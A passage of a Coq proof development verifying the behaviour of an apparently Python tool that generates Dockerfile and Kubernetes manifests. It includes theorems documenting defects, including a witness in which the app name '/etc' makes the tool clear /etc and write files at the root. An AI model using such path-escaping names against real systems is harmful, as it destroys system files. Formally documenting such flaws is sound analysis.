    are constants: 30, 10, 5, 3 for liveness and 5, 5, 3, 3 for readiness
    (initial delay, period, timeout, failure threshold). *)
Theorem probes_use_the_application_path (app_name : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  accepted_name app_name = true →
  Text.single_line app_name = true →
  Text.single_line (py_str port) = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  let dest := destination app_name in
  let run := generate (request app_name port node_port envs) st in
  let container := ["spec"; "template"; "spec"; "containers"] in
  let timings := ["initialDelaySeconds"; "periodSeconds"; "timeoutSeconds";
                  "failureThreshold"] in
  ∃ dep,
    run.1 = Ok (Success ("Fichiers générés dans " +:+ dest))
    ∧ Os.read_file run.2 (deployment_path dest app_name) = Some dep
    ∧ Yaml.get (container ++ ["livenessProbe"; "httpGet"; "path"]) dep
      = Some ("/" +:+ app_name)
    ∧ Yaml.get (container ++ ["readinessProbe"; "httpGet"; "path"]) dep
      = Some ("/" +:+ app_name)
    ∧ map (λ t, Yaml.get (container ++ ["livenessProbe"; t]) dep) timings
      = [Some "30"; Some "10"; Some "5"; Some "3"]
    ∧ map (λ t, Yaml.get (container ++ ["readinessProbe"; t]) dep) timings
      = [Some "5"; Some "5"; Some "3"; Some "3"].
Proof.
  intros Hacc Hname Hport Hnames Hfree dest run container timings.
  destruct (generate_reads _ port node_port _ _ _ (accepted_name_component _ Hacc)
              Hnames Hfree) as (Hrun & _ & Hdep & _).
  exists (Template.deployment app_name port).
  split; [exact Hrun|]. split; [exact Hdep|].
  exact (deployment_probes app_name port Hname Hport).
Qed.

Lemma probes_use_the_application_path_witness :
  accepted_name "My_App" = true
  ∧ Text.single_line "My_App" = true
  ∧ Text.single_line (py_str JNull) = true
  ∧ Template.env_names shouting_envs = Ok ["TOKEN"; "TOKEN"]
  ∧ destination_free empty_state "My_App"
  ∧ ∃ dep,
      Os.read_file
        (generate (request "My_App" JNull (JInt 30080) shouting_envs) empty_state).2
        (deployment_path (destination "My_App") "My_App") = Some dep
      ∧ Yaml.get ["spec"; "template"; "spec"; "containers"; "livenessProbe";
                  "httpGet"; "path"] dep = Some "/My_App".
Proof.
  assert (accepted_name "My_App" = true) as Ha by (vm_compute; reflexivity).
  assert (Text.single_line "My_App" = true) as Hl by (vm_compute; reflexivity).
  assert (Text.single_line (py_str JNull) = true) as Hp by (vm_compute; reflexivity).
  assert (Template.env_names shouting_envs = Ok ["TOKEN"; "TOKEN"]) as Hn
    by (vm_compute; reflexivity).
  assert (destination_free empty_state "My_App") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Ha|]. split; [exact Hl|]. split; [exact Hp|]. split; [exact Hn|].
  split; [exact Hf|].
  destruct (probes_use_the_application_path "My_App" JNull (JInt 30080)
              shouting_envs _ empty_state Ha Hl Hp Hn Hf)
    as (dep & _ & Hdep & Hlive & _).
  exists dep. split; [exact Hdep|exact Hlive].
Defined.

(** C7 (the code does not meet it).  For the example descriptor with an
    empty list of variables the request succeeds and the build file
    declares the build argument PORT and no other, but the bundle has no
    secret template: the four files are all that is written, nothing
    stands at [k8s/orders-api-secret.yaml], and [write_secret_yaml] is
    not called.  Called directly, with the bindings of the module,
    [write_secret_yaml] leaves a secret template without an entry under
    [stringData] and stops with the [NameError] of [output_dir]. *)
Theorem empty_request_leaves_no_secret_template :
  let run := generate (request "orders-api" (JInt 8080) (JInt 30080) []) empty_state in
  let dest := destination "orders-api" in
  let secret_path := k8s_path dest "orders-api-secret.yaml" in
  let direct := write_secret_yaml module_globals "orders-api" [] secret_path run.2 in
  run.1 = Ok (Success "Fichiers générés dans generated/orders-api")
  ∧ (Dockerfile.build_args <$> Os.read_file run.2 (dockerfile_path dest))
    = Some ["PORT"]
  ∧ regular_files run.2
    ≡ₚ map (Os.resolve []) [dockerfile_path dest; deployment_path dest "orders-api";
                             service_path dest "orders-api"; hpa_path dest "orders-api"]
  ∧ Os.read_file run.2 secret_path = None
  ∧ calls run.2 = ["generate_files"; "generate"]
  ∧ direct.1 = Raise (NameError "output_dir")
  ∧ (Yaml.keys_at ["stringData"] <$> Os.read_file direct.2 secret_path)
    = Some (Some []).
Proof.
  cbv zeta. split; [by vm_compute|]. split; [by vm_compute|]. split; [|by vm_compute].
  vm_compute. symmetry. apply (Permutation_cons_append [_; _; _]).
Qed.



(** C9.  For every call of [generate_files] on a tree in which the
    destination is an existing directory, the destination and the four
    files of the bundle being named by paths of file names within the
    limits of the system: whatever the outcome, the file system
    afterwards is the old one with everything at and below the
    destination removed, the directories down to [k8s] created and the
    first [k] files of the bundle written, with [k] at least one and
    [k = 4] exactly on success.  So what is at or below the destination
    afterwards does not depend on what was there before, nothing of the
    old tree is left beside the new directories and files, and after a
    failure the files written so far are still there. *)
Theorem existing_destination_is_deleted_first (app_name : string)
    (port node_port : jsval) (envs : list env) (output_dir : string)
    (st : state) :
  portable_path output_dir = true →
  portable_bundle app_name output_dir = true →
  fs_wf (fs st) →
  Os.fs_get (fs st) (Os.resolve (cwd st) output_dir) = Some Dir →
  let P := Os.resolve (cwd st) output_dir in
  let K := P ++ ["k8s"] in
  let bundle := artifacts app_name port node_port envs output_dir in
  let run := generate_files app_name port node_port envs output_dir st in
  ∃ k, 1 ≤ k ≤ 4
    ∧ (run.1 = Ok tt ↔ k = 4)
    ∧ fs run.2
      = written (cwd st) (take k bundle) (Os.make_dirs K (Os.remove_tree P (fs st)))
    ∧ (∀ q, P `prefix_of` q →
         fs run.2 !! q = written (cwd st) (take k bundle) (Os.make_dirs K ∅) !! q)
    ∧ (∀ q, P `prefix_of` q →
         q ∉ P :: K :: map (λ w, Os.resolve (cwd st) w.1) (take k bundle) →
         fs run.2 !! q = None)
    ∧ Forall (λ w, ∃ c, fs run.2 !! Os.resolve (cwd st) w.1 = Some (File c))
             (take k bundle).
Proof.
  intros _ _ Hwf HP P K bundle run.
  destruct run as [r st'] eqn:Hrun.
  destruct (generate_files_existing _ _ _ _ _ _ Hwf r st' HP Hrun)
    as (k & Hk & Hfs & Hok).
  exists k. cbn [fst snd]. split; [done|]. split; [done|]. split; [done|].
  split; [intros q Hq; rewrite Hfs; by apply written_below|].
  split.
  - intros q Hq Hnot. rewrite Hfs.
    rewrite written_frame, prepared_lookup; [|done|].
    + rewrite decide_False; [done|]. intros [_ [->| ->]]; apply Hnot.
      * by left.
      * right. by left.
    + apply Forall_forall. intros w Hw E. apply Hnot. right. right.
      apply list_elem_of_fmap. by exists w.
  - apply Forall_forall. intros [p c] Hin. rewrite Hfs. cbn [fst].
    by apply (written_is_file _ _ _ p c).
Qed.

Lemma existing_destination_is_deleted_first_witness :
  portable_path "generated/orders-api" = true
  ∧ portable_bundle "orders-api" "generated/orders-api" = true
  ∧ fs_wf (fs old_state)
  ∧ Os.fs_get (fs old_state) (Os.resolve (cwd old_state) "generated/orders-api")
    = Some Dir
  ∧ ∃ k, 1 ≤ k ≤ 4
    ∧ ∀ q, Os.resolve (cwd old_state) "generated/orders-api" `prefix_of` q →
        fs (generate_files "orders-api" (JInt 8080) (JInt 30080)
              [ {[ "secret_id" := "db-url-secret" ]} ] "generated/orders-api"
              old_state).2 !! q
        = written (cwd old_state)
            (take k (artifacts "orders-api" (JInt 8080) (JInt 30080)
                       [ {[ "secret_id" := "db-url-secret" ]} ]
                       "generated/orders-api"))
            (Os.make_dirs
               (Os.resolve (cwd old_state) "generated/orders-api" ++ ["k8s"]) ∅)
          !! q.
Proof.
  assert (portable_path "generated/orders-api" = true) as Hp
    by (vm_compute; reflexivity).
  assert (portable_bundle "orders-api" "generated/orders-api" = true) as Hb
    by (vm_compute; reflexivity).
  assert (fs_wf (fs old_state)) as Hwf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (Os.fs_get (fs old_state)
            (Os.resolve (cwd old_state) "generated/orders-api") = Some Dir) as Hd
    by (vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hb|]. split; [exact Hwf|]. split; [exact Hd|].
  destruct (existing_destination_is_deleted_first "orders-api" (JInt 8080)
              (JInt 30080) [ {[ "secret_id" := "db-url-secret" ]} ]
              "generated/orders-api" old_state Hp Hb Hwf Hd)
    as (k & Hk & _ & _ & Hbelow & _).
  exists k. split; [exact Hk|exact Hbelow].
Defined.







(** * Further properties

    Properties of the code beyond the claims: its behaviour on edge
    inputs, what it leaves alone, and what the texts it writes say. *)

(** X1. For every request with a one-component name on a free
    destination: when an entry of [envs] has no [name], the request is
    answered with the failure of [KeyError('name')].  By then the
    destination has been cleared and created again and the build file has
    been opened, so what is left is the [k8s] directory and an empty build
    file; no manifest is written. *)
Theorem unnamed_variable_leaves_an_empty_build_file (app_name : string)
    (port node_port : jsval) (envs : list env) (st : state) :
  path_component app_name = true →
  Exists (λ e : env, e !! "name" = None) envs →
  destination_free st app_name →
  let dest := destination app_name in
  let P := cwd st ++ ["generated"; app_name] in
  let K := P ++ ["k8s"] in
  let run := generate (request app_name port node_port envs) st in
  run.1 = Ok (Failure (KeyError "name"))
  ∧ fs run.2
    = <[P ++ ["Dockerfile"] := File EmptyString]>
        (Os.make_dirs K (Os.remove_tree P (fs st)))
  ∧ Os.read_file run.2 (dockerfile_path dest) = Some EmptyString
  ∧ Os.read_file run.2 (deployment_path dest app_name) = None
  ∧ Os.read_file run.2 (service_path dest app_name) = None
  ∧ Os.read_file run.2 (hpa_path dest app_name) = None.
Proof.
  intros Hname Hex Hfree dest P K run. unfold run.
  rewrite generate_response. cbv zeta.
  rewrite generate_files_free by done.
  rewrite render_unnamed; cbn [cwd fs set_fs logged fst snd];
    rewrite ?resolve_destination by done; [|done| |].
  - fold P K. split; [done|]. split; [done|].
    unfold Os.read_file, deployment_path, service_path, hpa_path.
    cbn [cwd fs set_fs logged].
    pose proof (resolve_dockerfile_path app_name st Hname) as ED. fold dest P in ED.
    rewrite ED, fs_get_stored, lookup_insert_eq by apply snoc_stored.
    split; [done|].
    assert (∀ file, path_component file = true →
              match Os.fs_get (<[P ++ ["Dockerfile"] := File EmptyString]>
                       (Os.make_dirs K (Os.remove_tree P (fs st))))
                      (Os.resolve (cwd st) (k8s_path dest file)) with
              | Some (File c) => Some c
              | _ => None
              end = None) as Hnone.
    { intros file Hfile. unfold dest. rewrite resolve_manifest_path by done.
      fold P K. rewrite fs_get_stored by apply snoc_stored.
      rewrite lookup_insert_ne.
      2:{ unfold K. rewrite <- app_assoc. intros E. symmetry in E.
          by apply snoc2_ne_snoc in E. }
      unfold K. rewrite prepared_lookup
        by (rewrite <- app_assoc; by apply prefix_app_r).
      rewrite decide_False; [done|]. intros [_ [E|E]].
      - apply (f_equal length) in E. rewrite !length_app in E. simpl in E. lia.
      - by apply snoc_ne in E. }
    repeat split; apply Hnone; apply manifest_component; done || by repeat constructor.
  - fold P. rewrite fs_get_stored by (unfold P; by destruct (cwd st)).
    rewrite prepared_lookup by done. rewrite decide_True; [done|].
    split; [unfold P; by destruct (cwd st)|by left].
  - fold P. rewrite prepared_lookup by by apply prefix_app_r.
    rewrite decide_False; [done|]. intros [_ [E|E]].
    + by apply snoc_ne in E.
    + by apply snoc_ne_snoc in E.
Qed.

Lemma unnamed_variable_leaves_an_empty_build_file_witness :
  path_component "orders-api" = true
  ∧ Exists (λ e : env, e !! "name" = None)
      [ {[ "name" := "DB_URL"; "secret_id" := "db-url-secret" ]};
        {[ "secret_id" := "api-key-secret" ]} ]
  ∧ destination_free old_state "orders-api"
  ∧ (generate (request "orders-api" (JInt 8080) (JInt 30080)
       [ {[ "name" := "DB_URL"; "secret_id" := "db-url-secret" ]};
         {[ "secret_id" := "api-key-secret" ]} ]) old_state).1
    = Ok (Failure (KeyError "name")).
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Exists (λ e : env, e !! "name" = None)
      [ {[ "name" := "DB_URL"; "secret_id" := "db-url-secret" ]};
        {[ "secret_id" := "api-key-secret" ]} ]) as He
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (destination_free old_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact He|]. split; [exact Hf|].
  destruct (unnamed_variable_leaves_an_empty_build_file "orders-api" (JInt 8080)
              (JInt 30080) _ old_state Hp He Hf) as (Hrun & _).
  exact Hrun.
Defined.

(** X2. A name of two components, [a/b], with nothing in the way of
    [generated/a/b]: the request fails with [FileNotFoundError] for the
    workload manifest, because the manifest is opened at
    [generated/a/b/k8s/a/b.yaml] and the directory [k8s/a] is never
    created.  The destination has been cleared and the complete build file
    written by then, and both are left behind. *)
Theorem name_with_a_slash_fails_after_the_build_file (a b : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  path_component a = true → path_component b = true →
  Template.env_names envs = Ok names →
  fs_wf (fs st) →
  way_clear st (destination (a +:+ "/" +:+ b)) →
  let app_name := a +:+ "/" +:+ b in
  let dest := destination app_name in
  let P := cwd st ++ ["generated"; a; b] in
  let run := generate (request app_name port node_port envs) st in
  run.1 = Ok (Failure (FileNotFoundError (deployment_path dest app_name)))
  ∧ fs run.2
    = <[P ++ ["Dockerfile"] := File (Template.dockerfile names)]>
        (Os.make_dirs (P ++ ["k8s"]) (Os.remove_tree P (fs st)))
  ∧ Os.read_file run.2 (dockerfile_path dest) = Some (Template.dockerfile names)
  ∧ Os.read_file run.2 (deployment_path dest app_name) = None.
Proof.
  intros Ha Hb Hnames Hwf Hway app_name dest P run.
  assert (Os.resolve (cwd st) dest = P) as EP.
  { unfold dest, destination, app_name. rewrite resolve_join_nested by done.
    rewrite resolve_component by done. unfold P. by rewrite <- app_assoc. }
  assert (Os.resolve (cwd st) (dockerfile_path dest) = P ++ ["Dockerfile"]) as ED.
  { unfold dockerfile_path. by rewrite resolve_join, EP. }
  assert (Os.resolve (cwd st) (deployment_path dest app_name)
          = (P ++ ["k8s"]) ++ [a; b +:+ ".yaml"]) as EM.
  { unfold deployment_path, k8s_path, app_name.
    rewrite !sapp_assoc, resolve_join_nested, resolve_join, EP; try done.
    apply manifest_component; [done|by repeat constructor]. }
  assert (P ≠ []) as HP by (unfold P; by destruct (cwd st)).
  set (prepared := Os.make_dirs (P ++ ["k8s"]) (Os.remove_tree P (fs st))).
  assert (prepared !! (P ++ ["Dockerfile"]) ≠ Some Dir) as HD.
  { unfold prepared. rewrite prepared_lookup by by apply prefix_app_r.
    rewrite decide_False; [done|]. intros [_ [E|E]].
    - by apply snoc_ne in E.
    - by apply snoc_ne_snoc in E. }
  unfold run. rewrite generate_response. cbv zeta. fold app_name dest.
  rewrite generate_files_phases.
  pose proof (prepare_clear dest (logged "generate_files" (logged "generate" st)))
    as Hprep. cbn [cwd fs logged] in Hprep. rewrite EP in Hprep.
  rewrite Hprep by done. fold prepared. clear Hprep.
  unfold render. rewrite run_bind.
  pose proof (open_w_ok (Os.path_join dest "Dockerfile")
                (set_fs prepared (logged "generate_files" (logged "generate" st))))
    as Hopen. cbn [cwd fs set_fs logged] in Hopen.
  fold (dockerfile_path dest) in Hopen |- *. rewrite ED in Hopen.
  rewrite Hopen; [|apply snoc_stored| |done]. clear Hopen.
  2:{ unfold Os.parent. rewrite removelast_last, fs_get_stored by done.
      unfold prepared. rewrite prepared_lookup by done.
      rewrite decide_True; [done|]. by split; [|left]. }
  cbv beta iota. rewrite run_bind. unfold lift. rewrite Hnames. cbv beta iota.
  rewrite run_bind, fwrite_fresh. cbv beta iota. rewrite run_bind.
  fold (k8s_path dest (app_name +:+ ".yaml")). fold (deployment_path dest app_name).
  assert (<[P ++ ["Dockerfile"] := File (Template.dockerfile names)]> prepared
            !! ((P ++ ["k8s"]) ++ [a]) = None) as Hgap.
  { rewrite lookup_insert_ne.
    2:{ rewrite <- app_assoc. intros E. symmetry in E. by apply snoc2_ne_snoc in E. }
    unfold prepared. rewrite prepared_lookup
      by (rewrite <- app_assoc; by apply prefix_app_r).
    rewrite decide_False; [done|]. intros [_ [E|E]].
    - apply (f_equal length) in E. rewrite !length_app in E. simpl in E. lia.
    - by apply snoc_ne in E. }
  rewrite open_w_missing_dir; cbn [cwd fs set_fs logged]; rewrite ?EM.
  - cbn [fst snd fs set_fs]. split; [done|]. split; [done|].
    unfold Os.read_file. cbn [cwd fs set_fs logged]. rewrite ED, EM.
    rewrite !fs_get_stored by (by destruct P).
    rewrite lookup_insert_eq. split; [done|].
    rewrite lookup_insert_ne.
    2:{ rewrite <- app_assoc. intros E. apply app_inv_head in E. discriminate E. }
    unfold prepared. rewrite prepared_lookup
      by (rewrite <- app_assoc; by apply prefix_app_r).
    rewrite decide_False; [done|]. intros [_ [E|E]].
    + apply (f_equal length) in E. rewrite !length_app in E. simpl in E. lia.
    + apply (f_equal length) in E. rewrite !length_app in E. simpl in E. lia.
  - by destruct P.
  - unfold Os.parent.
    change [a; b +:+ ".yaml"] with ([a] ++ [b +:+ ".yaml"]).
    rewrite app_assoc, removelast_last, fs_get_stored by apply snoc_stored.
    exact Hgap.
Qed.

Lemma name_with_a_slash_fails_after_the_build_file_witness :
  path_component "shop" = true ∧ path_component "orders" = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ fs_wf (fs empty_state)
  ∧ way_clear empty_state (destination "shop/orders")
  ∧ (generate (request "shop/orders" (JInt 8080) (JInt 30080) orders_envs)
       empty_state).1
    = Ok (Failure (FileNotFoundError "generated/shop/orders/k8s/shop/orders.yaml")).
Proof.
  assert (path_component "shop" = true) as Ha by (vm_compute; reflexivity).
  assert (path_component "orders" = true) as Hb by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (fs_wf (fs empty_state)) as Hwf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (way_clear empty_state (destination ("shop" +:+ "/" +:+ "orders"))) as Hc
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Ha|]. split; [exact Hb|]. split; [exact Hn|]. split; [exact Hwf|].
  split; [exact Hc|].
  destruct (name_with_a_slash_fails_after_the_build_file "shop" "orders" (JInt 8080)
              (JInt 30080) orders_envs _ empty_state Ha Hb Hn Hwf Hc) as (Hrun & _).
  exact Hrun.
Defined.

(** X3. The empty name is not turned down: its destination is
    [generated/] itself.  With nothing in the way, the request succeeds,
    everything that was at or below [generated], the bundles of all
    applications, is removed, and the four files are written straight into
    [generated] and [generated/k8s], the manifests under the names
    [.yaml], [-service.yaml] and [-hpa.yaml]. *)
Theorem empty_name_replaces_the_generated_directory (port node_port : jsval)
    (envs : list env) (names : list string) (st : state) :
  Template.env_names envs = Ok names →
  fs_wf (fs st) →
  way_clear st "generated/" →
  let G := cwd st ++ ["generated"] in
  let K := G ++ ["k8s"] in
  let run := generate (request EmptyString port node_port envs) st in
  run.1 = Ok (Success "Fichiers générés dans generated/")
  ∧ fs run.2
    = written (cwd st) (artifacts EmptyString port node_port envs "generated/")
        (Os.make_dirs K (Os.remove_tree G (fs st)))
  ∧ Os.read_file run.2 "generated/Dockerfile" = Some (Template.dockerfile names)
  ∧ Os.read_file run.2 "generated/k8s/.yaml"
    = Some (Template.deployment EmptyString port)
  ∧ ∀ q, G `prefix_of` q →
      q ∉ [G; K; G ++ ["Dockerfile"]; K ++ [".yaml"]; K ++ ["-service.yaml"];
           K ++ ["-hpa.yaml"]] →
      fs run.2 !! q = None.
Proof.
  intros Hnames Hwf Hway G K run.
  assert (G ≠ []) as HG by apply snoc_stored.
  assert (∀ suffix, suffix ∈ [".yaml"; "-service.yaml"; "-hpa.yaml"] →
            path_component (EmptyString +:+ suffix) = true) as Hfiles.
  { intros suffix Hs. repeat (apply elem_of_cons in Hs as [->|Hs]);
      [..|by apply elem_of_nil in Hs]; by vm_compute. }
  unfold run. rewrite generate_response. cbv zeta.
  change (destination EmptyString) with "generated/".
  rewrite (generate_files_succeeds EmptyString port node_port envs names "generated/"
             (logged "generate" st) Hnames Hwf Hway);
    cbn [cwd fs logged]; rewrite ?resolve_generated; fold G K.
  2:{ pose proof (bundle_creatable_below EmptyString port node_port envs "generated/"
                    (cwd st) (fs st)) as H.
      rewrite resolve_generated in H. by apply H. }
  cbn [fst snd fs set_fs]. split; [done|]. split; [done|].
  set (bundle := artifacts EmptyString port node_port envs "generated/").
  set (prepared := Os.make_dirs K (Os.remove_tree G (fs st))).
  assert (map (λ w : string * string, Os.resolve (cwd st) w.1) bundle
          = [G ++ ["Dockerfile"]; K ++ [".yaml"]; K ++ ["-service.yaml"];
             K ++ ["-hpa.yaml"]]) as Hpaths by reflexivity.
  assert (NoDup (map (λ w : string * string, Os.resolve (cwd st) w.1) bundle)) as Hnd.
  { rewrite Hpaths. unfold K.
    repeat (apply NoDup_cons; split); [..|apply NoDup_nil_2];
      rewrite ?elem_of_cons, elem_of_nil; intros H;
      repeat (destruct H as [H|H]); try done;
      rewrite <- ?app_assoc in H; apply app_inv_head in H; discriminate. }
  split.
  { unfold Os.read_file. cbn [cwd fs set_fs logged].
    change (Os.resolve (cwd st) "generated/Dockerfile") with (G ++ ["Dockerfile"]).
    rewrite fs_get_stored by apply snoc_stored.
    change (G ++ ["Dockerfile"])
      with (Os.resolve (cwd st) (dockerfile_path "generated/")).
    rewrite (written_lookup _ _ _ _ (dockerfile_text envs)); [|done|by left].
    unfold dockerfile_text. by rewrite Hnames. }
  split.
  { unfold Os.read_file. cbn [cwd fs set_fs logged].
    change (Os.resolve (cwd st) "generated/k8s/.yaml") with (K ++ [".yaml"]).
    rewrite fs_get_stored by apply snoc_stored.
    change (K ++ [".yaml"])
      with (Os.resolve (cwd st) (deployment_path "generated/" EmptyString)).
    rewrite (written_lookup _ _ _ _ (Template.deployment EmptyString port));
      [done|done|]. right. by left. }
  intros q Hq Hnot. rewrite written_frame.
  - unfold prepared, K. rewrite prepared_lookup by done.
    rewrite decide_False; [done|]. intros [_ [->| ->]]; apply Hnot.
    + by left.
    + right. by left.
  - apply Forall_forall. intros w Hw E. apply Hnot. right. right.
    rewrite <- Hpaths. apply list_elem_of_fmap. by exists w.
Qed.

Lemma empty_name_replaces_the_generated_directory_witness :
  Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ fs_wf (fs old_state)
  ∧ way_clear old_state "generated/"
  ∧ (generate (request EmptyString (JInt 8080) (JInt 30080) orders_envs) old_state).1
    = Ok (Success "Fichiers générés dans generated/")
  ∧ fs (generate (request EmptyString (JInt 8080) (JInt 30080) orders_envs)
          old_state).2
      !! ["srv"; "generated"; "orders-api"; "notes.txt"] = None.
Proof.
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (fs_wf (fs old_state)) as Hwf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (way_clear old_state "generated/") as Hw
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hn|]. split; [exact Hwf|]. split; [exact Hw|].
  destruct (empty_name_replaces_the_generated_directory (JInt 8080) (JInt 30080)
              orders_envs _ old_state Hn Hwf Hw) as (Hrun & _ & _ & _ & Hgone).
  split; [exact Hrun|].
  apply Hgone.
  - by exists ["orders-api"; "notes.txt"].
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
Defined.

(** X4. A name that starts with a slash, [/a], leaves the
    [generated] directory behind: [os.path.join] drops what comes before
    an absolute component.  With nothing in the way, the request succeeds;
    the directory [/a] is cleared and gets the [k8s] directory and the
    build file, and the three manifests are written into the root
    directory, as [/a.yaml], [/a-service.yaml] and [/a-hpa.yaml]. *)
Theorem absolute_name_escapes_the_generated_directory (a : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  path_component a = true →
  Template.env_names envs = Ok names →
  fs_wf (fs st) →
  Os.is_file (fs st) [a] = false →
  Forall (λ suffix, fs st !! [a +:+ suffix] ≠ Some Dir)
         [".yaml"; "-service.yaml"; "-hpa.yaml"] →
  let app_name := "/" +:+ a in
  let run := generate (request app_name port node_port envs) st in
  run.1 = Ok (Success ("Fichiers générés dans /" +:+ a))
  ∧ fs run.2
    = <[[a +:+ "-hpa.yaml"] := File (Template.hpa app_name)]>
        (<[[a +:+ "-service.yaml"] := File (Template.service app_name port node_port)]>
           (<[[a +:+ ".yaml"] := File (Template.deployment app_name port)]>
              (<[[a; "Dockerfile"] := File (Template.dockerfile names)]>
                 (Os.make_dirs [a; "k8s"] (Os.remove_tree [a] (fs st)))))).
Proof.
  intros Ha Hnames Hwf Hfile Hroot app_name run.
  set (dest := destination app_name).
  assert (Os.resolve (cwd st) dest = [a]) as EP
    by (unfold dest, destination, app_name; by apply resolve_absolute).
  assert (Os.resolve (cwd st) (dockerfile_path dest) = [a; "Dockerfile"]) as ED
    by (unfold dockerfile_path; by rewrite resolve_join, EP).
  assert (∀ suffix, suffix ∈ [".yaml"; "-service.yaml"; "-hpa.yaml"] →
            Os.resolve (cwd st) (k8s_path dest (app_name +:+ suffix))
            = [a +:+ suffix]) as EM.
  { intros suffix Hs. unfold k8s_path, app_name. rewrite sapp_assoc.
    apply resolve_absolute. by apply manifest_component. }
  assert (way_clear st dest) as Hway.
  { unfold way_clear. rewrite EP. cbn [Os.prefixes map]. by repeat constructor. }
  set (prepared := Os.make_dirs [a; "k8s"] (Os.remove_tree [a] (fs st))).
  assert (∀ suffix, suffix ∈ [".yaml"; "-service.yaml"; "-hpa.yaml"] →
            prepared !! [a +:+ suffix] ≠ Some Dir) as Hnd.
  { intros suffix Hs. unfold prepared.
    assert (a +:+ suffix ≠ a) as Hne.
    { intros E%(f_equal String.length). rewrite length_app_string in E.
      repeat (apply elem_of_cons in Hs as [->|Hs]); [..|by apply elem_of_nil in Hs];
        simpl in E; lia. }
    rewrite lookup_make_dirs, decide_False.
    - rewrite lookup_remove_tree, decide_False.
      + rewrite Forall_forall in Hroot. by apply Hroot.
      + intros [k E]. injection E as E _. done.
    - intros [_ [k E]]. injection E as E _. done. }
  assert (bundle_creatable (cwd st) prepared
            (artifacts app_name port node_port envs dest)) as Hall.
  { pose proof (prepared_creatable (fs st) [a] "Dockerfile") as (H1 & H2 & _);
      [done..|].
    assert (Forall (λ w, Os.resolve (cwd st) w.1 ≠ [] ∧ Os.resolve (cwd st) w.1 ≠ [a])
              (artifacts app_name port node_port envs dest)) as Hoff.
    { unfold artifacts, deployment_path, service_path, hpa_path.
      repeat apply Forall_cons_2; [..|done]; cbn [fst];
        rewrite ?ED, ?EM by (rewrite !elem_of_cons; tauto); split; try done.
      all: intros [= E]; apply (f_equal String.length) in E;
        rewrite length_app_string in E; simpl in E; lia. }
    unfold bundle_creatable, artifacts, deployment_path, service_path, hpa_path.
    fold (artifacts app_name port node_port envs dest).
    repeat apply Forall_cons_2; [..|done]; cbv zeta; cbn [fst];
      rewrite ?ED, ?EM by (rewrite !elem_of_cons; tauto).
    - split; [done|]. split; [exact H1|]. split; [exact H2|].
      eapply Forall_impl; [exact Hoff|]. by intros w [? ?].
    - split; [done|]. split; [done|]. split; [apply Hnd; rewrite !elem_of_cons; tauto|].
      eapply Forall_impl; [exact Hoff|]. by intros w [? ?].
    - split; [done|]. split; [done|]. split; [apply Hnd; rewrite !elem_of_cons; tauto|].
      eapply Forall_impl; [exact Hoff|]. by intros w [? ?].
    - split; [done|]. split; [done|]. split; [apply Hnd; rewrite !elem_of_cons; tauto|].
      eapply Forall_impl; [exact Hoff|]. by intros w [? ?]. }
  unfold run. rewrite generate_response. cbv zeta. fold dest.
  pose proof (generate_files_succeeds app_name port node_port envs names dest
                (logged "generate" st)) as Hrun.
  cbn [cwd fs logged] in Hrun. rewrite EP in Hrun.
  change ([a] ++ ["k8s"]) with [a; "k8s"] in Hrun. fold prepared in Hrun.
  rewrite Hrun by done. cbn [fst snd fs set_fs].
  split.
  { unfold dest, destination, app_name, Os.path_join.
    change (Text.starts_with "/" ("/" +:+ a)) with true. done. }
  unfold written, artifacts, deployment_path, service_path, hpa_path.
  cbn [foldl fst snd].
  rewrite ED, !EM by (rewrite !elem_of_cons; tauto).
  unfold dockerfile_text. by rewrite Hnames.
Qed.

Lemma absolute_name_escapes_the_generated_directory_witness :
  path_component "etc" = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ fs_wf (fs host_state)
  ∧ Os.is_file (fs host_state) ["etc"] = false
  ∧ Forall (λ suffix, fs host_state !! ["etc" +:+ suffix] ≠ Some Dir)
      [".yaml"; "-service.yaml"; "-hpa.yaml"]
  ∧ (generate (request "/etc" (JInt 8080) (JInt 30080) orders_envs) host_state).1
    = Ok (Success "Fichiers générés dans /etc").
Proof.
  assert (path_component "etc" = true) as Hp by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (fs_wf (fs host_state)) as Hwf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (Os.is_file (fs host_state) ["etc"] = false) as Hd
    by (vm_compute; reflexivity).
  assert (Forall (λ suffix, fs host_state !! ["etc" +:+ suffix] ≠ Some Dir)
            [".yaml"; "-service.yaml"; "-hpa.yaml"]) as Hr
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hn|]. split; [exact Hwf|]. split; [exact Hd|].
  split; [exact Hr|].
  destruct (absolute_name_escapes_the_generated_directory "etc" (JInt 8080)
              (JInt 30080) orders_envs _ host_state Hp Hn Hwf Hd Hr) as [Hrun _].
  exact Hrun.
Defined.

(** X5. For a one-component name on a tree: when the destination
    [generated/<name>] is a regular file, the request is answered with the
    failure of [NotADirectoryError] for the destination (from [rmtree]);
    when [generated] is a regular file, with a [NotADirectoryError] from
